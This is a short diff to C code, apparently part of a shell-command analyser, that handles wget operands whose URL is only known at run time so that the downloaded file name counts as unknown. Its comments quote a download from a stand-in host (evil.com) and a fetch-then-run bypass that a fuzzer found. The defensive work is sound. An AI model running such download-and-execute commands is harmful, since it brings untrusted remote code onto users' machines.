@@ -296,9 +296,18 @@ static void fetch_writes(const locus_shell_command *c, const lk_fetch *f,
 	}
 	if (save_url && !(named && f->saves) && !to_stdout) {
 		/* every operand is a URL (wget evil.com/i.sh saves i.sh) */
-		for (size_t i = 1; i < c->argc; i++)
-			if (!is_option(c->argv[i]))
+		for (size_t i = 1; i < c->argc; i++) {
+			if (is_option(c->argv[i]))
+				continue;
+			/* a URL known only at run time saves a name we
+			   cannot know (`wget ${u}$(echo .sh) && bash i.sh`,
+			   found by fuzz_bypass) */
+			if (c->argv_flags &&
+			    (c->argv_flags[i] & LOCUS_WORD_DYNAMIC))
+				add_name(s, NULL, LK_CONTENT_DOWNLOAD, false);
+			else
 				url_names(s, c->argv[i], LK_CONTENT_DOWNLOAD);
+		}
 	}
 }
 
